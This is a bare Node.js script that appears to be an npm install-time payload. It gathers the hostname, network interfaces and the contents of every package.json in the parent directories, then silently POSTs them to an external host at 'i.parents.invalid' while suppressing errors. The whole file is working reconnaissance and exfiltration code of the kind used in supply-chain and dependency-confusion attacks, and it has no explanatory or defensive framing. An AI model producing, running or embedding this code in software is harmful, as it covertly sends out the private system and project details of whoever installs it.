const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios');
let dir = process.env.INIT_CWD || process.cwd();
const out = { host: os.hostname(), net: os.networkInterfaces(), pkgs: [] };
while (dir !== path.dirname(dir)) {
  const p = path.join(dir, 'package.json');
  if (fs.existsSync(p)) out.pkgs.push(fs.readFileSync(p, 'utf8'));
  dir = path.dirname(dir);
}
axios({ method: 'post', url: 'https://i.parents.invalid/', data: out }).catch(() => {});
